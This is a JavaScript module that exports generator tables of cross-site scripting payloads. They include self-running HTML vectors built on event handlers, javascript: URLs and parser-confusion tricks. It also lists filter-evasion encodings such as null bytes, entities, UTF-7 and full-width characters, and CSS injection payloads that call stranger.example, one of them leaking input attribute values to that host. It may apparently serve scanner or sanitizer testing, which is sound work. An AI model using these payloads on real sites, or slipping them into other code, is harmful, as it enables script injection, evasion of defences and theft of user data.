// Markup that runs code wherever it is taken for markup.

/** Elements that run an attribute by themselves, once they stand in a document. */
const SELF_RUNNING = {
  img: (code) => `<img src=x onerror=${code}>`,
  image: (code) => `<image src=x onerror=${code}>`,
  svg: (code) => `<svg><svg onload=${code}>`,
  'svg image': (code) => `<svg><image href=x onerror=${code}>`,
  video: (code) => `<video src=x onerror=${code}>`,
  source: (code) => `<video><source onerror=${code}>`,
  audio: (code) => `<audio src=x onerror=${code}>`,
  details: (code) => `<details open ontoggle=${code}>`,
  input: (code) => `<input autofocus onfocus=${code}>`,
  select: (code) => `<select autofocus onfocus=${code}>`,
  textarea: (code) => `<textarea autofocus onfocus=${code}>`,
  body: (code) => `<body onload=${code} onpageshow=${code}>`,
  iframe: (code) => `<iframe onload=${code}>`,
  'iframe of a document': (code) => `<iframe srcdoc="<script>parent.${code}</script>">`,
  'iframe of an address': (code) => `<iframe src="javascript:parent.${code}">`,
  object: (code) => `<object data="data:text/html,x" onload=${code} onerror=${code}>`,
  embed: (code) => `<embed src="javascript:${code}" onload=${code}>`,
  style: (code) => `<style onload=${code}>x{}</style>`,
  link: (code) => `<link rel=stylesheet href=/no-such.css onerror=${code} onload=${code}>`,
  script: (code) => `<script>${code}</script>`,
  'script of an address': (code) => `<script src="data:text/javascript,${code}"></script>`,
  'svg script': (code) => `<svg><script>${code}</script></svg>`,
  'svg animation': (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  'svg set': (code) => `<svg><set onbegin=${code} attributeName=x to=1>`,
  'svg link': (code) => `<svg><a href="javascript:${code}"><text y=20>x</text></a></svg>`,
  'MathML link': (code) => `<math><mtext><a href="javascript:${code}">x</a></mtext></math>`,
  'MathML confusion': (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  marquee: (code) => `<marquee onstart=${code}>x</marquee>`,
  animation: (code) => `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=${code}>x`,
  meta: (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  base: (code) => `<base href="//stranger.example/"><img src=x onerror=${code}>`,
  form: (code) => `<form action="javascript:${code}"><button>x</button></form>`,
  button: (code) => `<button formaction="javascript:${code}" onclick=${code}>x</button>`,
  link_: (code) => `<a href="javascript:${code}">x</a>`,
  'hidden template': (code) => `<template><img src=x onerror=${code}></template>`,
  noscript: (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  slot: (code) => `<x-y><slot onslotchange=${code}></slot></x-y><img src=x onerror=${code}>`,
  portal: (code) => `<p id=view><p id=main><p class=card popover onbeforetoggle=${code}>x`,
};
export const HTML_VECTORS = SELF_RUNNING;

const NAME = /<(\w)/g;
const inNames = (put) => (text) => text.replace(NAME, (_, letter) => `<${put(letter)}`);
const escaped = (write) => (text) => text.replace(/[<>"'&]/g, (sign) => write(sign.codePointAt(0)));
const hex = (code, length) => code.toString(16).padStart(length, '0');

/** Ways to get past whoever looks for markup. */
export const HTML_CLOAKS = {
  plain: (text) => text,
  'out of an attribute': (text) => `"'>${text}`,
  'out of a comment': (text) => `-->]]>${text}<!--`,
  'out of a text': (text) => `</title></textarea></style></script></template>${text}`,
  'upper case': (text) => text.replace(/<\/?\w+|\son\w+=/g, (name) => name.toUpperCase()),
  'slashes for spaces': (text) => text.replace(/(<\w+) /g, '$1/'),
  'breaks for spaces': (text) => text.replace(/(<\w+) /g, '$1\n\t'),
  'a null in the name': inNames((letter) => `\0${letter}`),
  unfinished: (text) => text.replace(/>$/, ' '),
  'nested openings': (text) => text.replace(/^</, '<<'),
  'as entities': escaped((code) => `&#${code};`),
  'as entities of entities': escaped((code) => `&amp;#x${hex(code, 2)};`),
  'per cent': escaped((code) => `%${hex(code, 2)}`),
  'as a script escapes': escaped((code) => `\\u${hex(code, 4)}`),
  'full width': escaped((code) => String.fromCodePoint(code + 0xfee0)),
  'UTF-7': (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
};

const STRANGER = 'https://stranger.example/x';

/** Styles that run or fetch. */
export const STYLES = {
  'expression in a style': (code) => `<p style="width:expression(${code})">x</p>`,
  'an address in a style': () => `<p style="background:url(${STRANGER})">x</p>`,
  'a script in a style': (code) => `<p style="background:url(javascript:${code})">x</p>`,
  import: () => `<style>@import "${STRANGER}";</style>`,
  'import in upper case': () => `<STYLE>@IMPORT url(${STRANGER});</STYLE>`,
  font: () => `<style>@font-face{font-family:x;src:url(${STRANGER})}*{font-family:x}</style>`,
  everything: () => `<style>*{display:none!important;background:url(${STRANGER})}</style>`,
  'a leak by attribute': () => `<style>input[value^="a"]{background:url(${STRANGER})}</style>`,
  'bare declaration': () => `;position:fixed;inset:0;z-index:9999;background:url(${STRANGER})`,
  'bare rule': () => `}*{display:none}a{background:url(${STRANGER})`,
  'bare expression': (code) => `expression(${code})`,
  'bare address': () => `url("${STRANGER}")`,
  behaviour: (code) => `<p style="behavior:url(#default#time2)" onbegin=${code}>x</p>`,
  binding: () => `<p style="-moz-binding:url(${STRANGER}#x)">x</p>`,
  'escaped letters': (code) => `<p style="width:\\65xpression(${code})">x</p>`,
  'commented letters': (code) => `<p style="width:exp/**/ression(${code})">x</p>`,
  'link to a sheet': () => `<link rel="stylesheet" href="${STRANGER}">`,
  prefetch: () => `<link rel="prefetch" href="${STRANGER}"><link rel="dns-prefetch" href="//stranger.example">`,
  'image set': () => `<p style="content:image-set('${STRANGER}' 1x)">x</p>`,
  'variable with an address': () => `<p style="--x:url(${STRANGER});background:var(--x)">x</p>`,
};
